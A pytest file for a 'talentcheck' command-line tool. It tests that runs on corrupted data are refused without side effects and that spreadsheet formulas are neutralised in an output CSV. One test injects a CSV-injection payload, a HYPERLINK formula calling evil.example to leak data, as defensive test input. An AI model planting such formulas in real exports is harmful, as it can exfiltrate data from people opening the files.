"""A run on bad data: refused before any notebook executes, with exit code 2 and one line naming the file at
fault, and the previous output and everything beside it left byte for byte as they were. Every way a data
file can be wrong is refused by the check every run starts with (tests/unit/test_bad_input.py runs the whole
catalogue through `talentcheck validate`); here one case of each file a run reads goes through `talentcheck run`."""
import pytest

from helpers import BAD_DATA, snapshot
from talentcheck import cli, paths

CASES = [case for case in BAD_DATA if case[0] in ("csv-ragged", "tables-alias", "claims-duplicate-id", "id-climbs-out-of-output")]


@pytest.mark.parametrize("corrupt, message", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_a_run_on_bad_data_is_refused_before_anything_runs_and_touches_nothing(tmp_path, data_copy, previous_output, capsys,
                                                                             corrupt, message):
    out = previous_output
    (tmp_path / "notes.txt").write_text("my notes")
    corrupt(data_copy)
    before, repo_before = snapshot(tmp_path), {p.name for p in paths.ROOT.iterdir()}
    code = cli.main(["run", "01_researcher_origin", "--jobs", "1", "--output", str(out)])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("talentcheck: error: ") and err.count("\n") == 1, err
    for part in (message if isinstance(message, tuple) else (message,)):
        assert part in err, err
    assert snapshot(tmp_path) == before
    assert {p.name for p in paths.ROOT.iterdir()} == repo_before


def test_a_formula_in_a_claims_words_reaches_verdicts_csv_as_text(tmp_path, data_copy):
    """A claim's unit written as a spreadsheet formula runs through its notebook into verdicts.csv, where a
    spreadsheet shows it as text (a leading quote); no cell of the file starts a formula."""
    import csv

    import yaml

    claims = yaml.safe_load((data_copy / "claims.yaml").read_text(encoding="utf-8"))
    claim = next(c for c in claims if c.get("notebook") == "06_xai_founders.ipynb")
    formula = '=HYPERLINK("http://evil.example/?leak","x")'
    text = (data_copy / "claims.yaml").read_text(encoding="utf-8")
    (data_copy / "claims.yaml").write_text(text.replace(f"unit: {claim['unit']}", f"unit: '{formula}'", 1), encoding="utf-8")
    assert cli.main(["run", "06_xai_founders", "--jobs", "1", "--output", str(tmp_path / "out")]) == 0
    with open(tmp_path / "out" / "verdicts.csv", newline="", encoding="utf-8") as handle:
        rows = {row["claim_id"]: row for row in csv.DictReader(handle)}
    assert rows[claim["id"]]["unit"] == "'" + formula
    assert not any(cell.startswith(("=", "+", "@")) for row in rows.values() for cell in row.values())
